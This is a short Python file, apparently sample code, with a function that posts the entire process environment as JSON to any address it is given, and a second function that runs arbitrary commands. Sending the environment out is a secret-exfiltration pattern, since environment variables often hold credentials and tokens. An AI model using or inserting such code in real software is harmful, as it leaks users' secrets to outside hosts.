import json
import os
import subprocess

import requests


def tell(address):
    requests.post(address, json=dict(os.environ))
    requests.post(address, data=json.dumps(dict(os.environ)))


def run(command):
    subprocess.run(command, env=dict(os.environ, LANG="C"))
    return os.environ["HOME"], str(os.environ.get("USER"))
